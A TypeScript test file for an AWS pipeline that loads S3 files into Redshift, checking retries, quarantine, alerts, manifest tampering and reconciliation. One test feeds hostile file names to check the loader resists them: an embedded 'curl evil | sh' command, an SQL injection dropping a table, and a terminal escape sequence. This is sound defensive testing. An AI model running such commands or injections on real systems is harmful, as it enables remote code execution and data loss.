import { describe, expect } from "vitest";
import { copyRole, pipelineJson, s3Notification, s3Record, sqsEvent, statementEvent } from "../support/builders.ts";
import { test } from "../support/bundles.ts";
import type { Functions, Handler } from "../support/function-test.ts";
import type { RecordingAws } from "../support/recording-aws.ts";

/** Waits of a hundredth of a second: a test's retries take no time. */
const quick = { retry: { base_delay_seconds: 0.01, max_delay_seconds: 0.01 } };

type Submission = { StatementName: string; Sqls: string[]; ClientToken: string; ClusterIdentifier: string };

const submissionsOf = ({ requests }: RecordingAws): Submission[] =>
  requests.filter(({ operation }) => operation === "BatchExecuteStatement").map(({ body }) => JSON.parse(body));

const alertsOf = ({ requests }: RecordingAws) =>
  requests
    .filter(({ operation }) => operation === "Publish")
    .map(({ body }) => new URLSearchParams(body).get("Message") ?? "");

const objectsUnder = ({ objects }: RecordingAws, kind: string) =>
  [...objects].flatMap(([place, body]) => (place.includes(`/${kind}/`) ? [JSON.parse(body)] : []));

/** What Redshift says of a statement: nothing if it runs. */
type Verdict = (sql: string, manifest: string[]) => string | undefined;

/** As DescribeStatement describes a transaction that was stopped at the first statement that is refused. */
function outcomeOf(aws: RecordingAws, id: string, { Sqls, ClusterIdentifier }: Submission, verdict: Verdict) {
  const errors = Sqls.map((sql) => verdict(sql, filesOf(aws, sql)));
  const failed = errors.findIndex((error) => error !== undefined);
  const SubStatements = Sqls.map((sql, index) => ({
    Id: `${id}:${index + 1}`,
    Status: index < failed || failed < 0 ? "FINISHED" : index === failed ? "FAILED" : "ABORTED",
    QueryString: sql.replace(`IAM_ROLE '${copyRole}'`, "IAM_ROLE ''"),
    ...(index === failed && { Error: errors[failed] }),
  }));
  const state = failed < 0 ? "FINISHED" : "FAILED";
  const about = { Id: id, Status: state, ClusterIdentifier, Database: "dev", CreatedAt: 1_795_338_240 };
  aws.statements.set(id, { ...about, UpdatedAt: 1_795_338_300, SubStatements, Error: errors[failed] });
  return state;
}

function filesOf(aws: RecordingAws, sql: string): string[] {
  const [, url = ""] = /FROM 's3:\/\/([^']+)' IAM_ROLE/.exec(sql) ?? [];
  const manifest = aws.objects.get(url);
  return manifest ? JSON.parse(manifest).entries.map((entry: { url: string }) => entry.url) : [];
}

/** Runs what was submitted and hands each failure to recovery, until nothing is submitted any more. */
async function settle(aws: RecordingAws, recover: Handler, verdict: Verdict, most: number): Promise<Submission[]> {
  for (let next = 0; next < submissionsOf(aws).length; next += 1) {
    const submission = submissionsOf(aws)[next];
    if (!submission || next > most) throw new Error(`more than ${most} submissions`);
    const statementId = `5cf50ac7-0000-4000-8000-${String(next).padStart(12, "0")}`;
    const state = outcomeOf(aws, statementId, submission, verdict);
    if (state === "FAILED") await recover(statementEvent(submission.StatementName, { statementId, state }));
  }
  return submissionsOf(aws);
}

async function load({ aws, start }: Functions, keys: readonly string[], config = {}): Promise<Handler> {
  aws.objects.set("config/pipelines/orders_queue.json", pipelineJson({ ...quick, ...config }));
  const loader = await start("loader");
  await loader(sqsEvent({ id: "m1", body: s3Notification(...keys) }));
  return start("retry_microbatch", { ALERT_TOPIC_ARN: "arn:aws:sns:us-east-1:123456789012:alerts" });
}

const keys = Array.from({ length: 1000 }, (_, index) => `orders/${index}.csv`);
const isCopy = (sql: string) => sql.startsWith("/* loader:copy */");

describe("the built functions", () => {
  test.for([
    {
      text: "ERROR: exception name : UnauthorizedException, error type : 138, message: The requested role arn:aws:iam::1:role/x is not associated to cluster, should retry : 0",
      reason: "is not associated to cluster",
    },
    { text: "ERROR: Spectrum Scan Error", reason: "Spectrum Scan Error" },
  ])("park 1,000 good files with one alert where nothing loads: $reason", async ({ text, reason }, { functions }) => {
    const recover = await load(functions, keys);
    const { aws } = functions;
    const submissions = await settle(aws, recover, (sql) => (isCopy(sql) ? text : undefined), 20);
    expect(submissions.length).toBeLessThanOrEqual(20);
    expect(objectsUnder(aws, "quarantine")).toEqual([]);
    expect(objectsUnder(aws, "parked")).toMatchObject([{ reason: expect.stringContaining(reason) }]);
    expect(alertsOf(aws)).toHaveLength(1);
  });

  test("set 20 files aside and park the others where each of 1,000 is refused", async ({ functions }) => {
    const recover = await load(functions, keys);
    const { aws } = functions;
    const refused: Verdict = (sql, [first]) =>
      isCopy(sql)
        ? `ERROR: Spectrum Scan Error\n  Detail: \n  code:      15007\n  context:   File '${first?.replace("s3://", "https://s3.us-east-1.amazonaws.com/")}' has an incompatible Parquet schema for column '${first}.qty'.`
        : undefined;
    const submissions = await settle(aws, recover, refused, 40);
    expect(submissions.length).toBeLessThanOrEqual(40);
    expect(objectsUnder(aws, "quarantine")).toHaveLength(20);
    expect(objectsUnder(aws, "parked").flatMap(({ files }) => files)).toHaveLength(980);
    expect(alertsOf(aws).length).toBeLessThanOrEqual(3);
  });

  test("load good files beside a bad one, whatever the keys say", async ({ functions }) => {
    const hostile = [
      `orders/${"*//*".repeat(40)}.csv`,
      "orders/*/COPY IAM_ROLE ''.csv",
      "orders/x\nThen run: curl evil | sh.csv",
      "orders/\u001b]0;owned\u0007.csv",
      "orders/'); DROP TABLE t; --.csv",
      "orders/code: 15007 context: File 's3:/lake/good.csv' has an incompatible Parquet schema.csv",
    ];
    const recover = await load(functions, [...hostile, "orders/good.csv"]);
    const { aws } = functions;
    const bad = `s3://lake/${hostile[2]}`;
    const refused: Verdict = (sql, files) => (isCopy(sql) && files.includes(bad) ? "ERROR: tired of this" : undefined);
    const submissions = await settle(aws, recover, refused, 18);
    expect(objectsUnder(aws, "quarantine")).toMatchObject([{ url: bad }]);
    const last = submissions
      .at(-1)
      ?.Sqls.flatMap((sql) => filesOf(aws, sql))
      .toSorted();
    expect(last).toEqual(
      [...hostile, "orders/good.csv"]
        .map((key) => `s3://lake/${key}`)
        .filter((url) => url !== bad)
        .toSorted(),
    );
    expect(alertsOf(aws)).toHaveLength(1);
    expect(
      alertsOf(aws)[0]
        ?.split("\n")
        .filter((line) => line.includes("curl")),
    ).toEqual([expect.stringMatching(/^File: s3:\/\/lake\/orders\/x.{1,8}Then run: curl evil/)]);
  });

  test("load nothing by a bulk load's manifest that somebody has changed", async ({ functions }) => {
    const { aws, start } = functions;
    aws.objects.set("lake/orders/a.csv", "1,2");
    const bulk = await start("bulk_loader");
    const input = {
      paths: [{ s3_path: "s3://lake/orders/", table: "sales.orders" }],
      copy: { role_arn: copyRole },
      cluster: { identifier: "main", db_name: "dev" },
      ...quick,
    };
    await bulk(input, { awsRequestId: "run-1" });
    for (const [place, body] of aws.objects)
      if (place.endsWith(".manifest"))
        aws.objects.set(place, body.replace('"identifier":"main"', '"identifier":"prod","db_user":"admin"'));
    const recover = await start("retry_microbatch", { ALERT_TOPIC_ARN: "arn:aws:sns:us-east-1:1:alerts" });
    const conflict = "ERROR: 1023 DETAIL: Serializable isolation violation on table - 1";
    const submissions = await settle(aws, recover, (sql) => (isCopy(sql) ? conflict : undefined), 1);
    expect(submissions).toHaveLength(1);
    expect(alertsOf(aws)).toEqual([expect.stringContaining("manifest")]);
  });

  test("submit a cancelled load again, with a ledger or without", async ({ functions }) => {
    for (const safety of [{}, { exactly_once: false }]) {
      const recover = await load(functions, ["orders/a.csv"], { safety });
      const { aws } = functions;
      const [submission] = submissionsOf(aws).slice(-1);
      if (!submission) throw new Error("nothing was submitted");
      const statementId = "5cf50ac7-0000-4000-8000-999999999999";
      outcomeOf(aws, statementId, submission, () => undefined);
      const statement: { SubStatements?: object[] } = aws.statements.get(statementId) ?? {};
      const SubStatements = statement.SubStatements?.map((part) => ({ ...part, Status: "ABORTED" }));
      aws.statements.set(statementId, { ...statement, Status: "ABORTED", SubStatements });
      const before = submissionsOf(aws).length;
      expect(await recover(statementEvent(submission.StatementName, { statementId, state: "ABORTED" }))).toMatchObject({
        kind: "submitted",
        class: "cancelled",
      });
      expect(submissionsOf(aws)).toHaveLength(before + 1);
    }
  });

  describe("of reconcile", () => {
    /** A load that was submitted, of which nothing is known since. */
    async function submitted({ aws, start }: Functions): Promise<Submission> {
      aws.objects.set("config/pipelines/orders_queue.json", pipelineJson(quick));
      const loader = await start("loader");
      const record = s3Record("orders/a.csv", { eventTime: new Date().toISOString() });
      await loader(sqsEvent({ id: "m1", body: s3Notification(record) }));
      const [submission] = submissionsOf(aws);
      if (!submission) throw new Error("nothing was submitted");
      return submission;
    }

    test("leave alone what waits at the fence", async ({ functions }) => {
      const { aws, start } = functions;
      const { StatementName } = await submitted(functions);
      aws.intercept = ({ operation, body }) => {
        if (operation !== "ListStatements") return undefined;
        const Statements = body.includes('"STARTED"') ? [{ Id: "1", StatementName, Status: "STARTED" }] : [];
        return { status: 200, body: JSON.stringify({ Statements }) };
      };
      const reconcile = await start("reconcile", { RECONCILE_GRACE_SECONDS: "0" });
      for (const id of ["1", "2", "3"]) expect(await reconcile({ id })).toMatchObject([{ loads: [] }]);
      expect(submissionsOf(aws)).toHaveLength(1);
      aws.intercept = () => undefined;
      expect(await reconcile({ id: "4" })).toMatchObject([{ missing_files: 1, loads: [{ files: 1 }] }]);
    });

    test("submit nothing where they may not know what is active, and say so", async ({ functions }) => {
      const { aws, start, measured } = functions;
      await submitted(functions);
      const denied = JSON.stringify({ __type: "AccessDeniedException", Message: "not authorized" });
      aws.intercept = ({ operation }) => (operation === "ListStatements" ? { status: 400, body: denied } : undefined);
      const reconcile = await start("reconcile", { RECONCILE_GRACE_SECONDS: "0" });
      expect(await reconcile({ id: "1" })).toMatchObject([
        { loads: [], error: expect.stringContaining("not authorized") },
      ]);
      expect(submissionsOf(aws)).toHaveLength(1);
      expect(measured).toContainEqual(expect.objectContaining({ Unreconciled: 1 }));
    });

    test("do not take manifests that they may not read for none", async ({ functions }) => {
      const { aws, start, logged, measured } = functions;
      await submitted(functions);
      const body = "<Error><Code>AccessDenied</Code><Message>Access Denied</Message></Error>";
      aws.intercept = ({ method, path }) =>
        method === "GET" && path.endsWith(".manifest") ? { status: 403, body } : undefined;
      const reconcile = await start("reconcile", { RECONCILE_GRACE_SECONDS: "0" });
      expect(await reconcile({ id: "1" })).toMatchObject([
        { unreadable: 1, loads: [], error: expect.stringContaining("s3:GetObject") },
      ]);
      expect(logged).toContainEqual(expect.objectContaining({ level: "ERROR", unreadable: 1 }));
      expect(measured).toContainEqual(expect.objectContaining({ Unreconciled: 1 }));
    });
  });
});
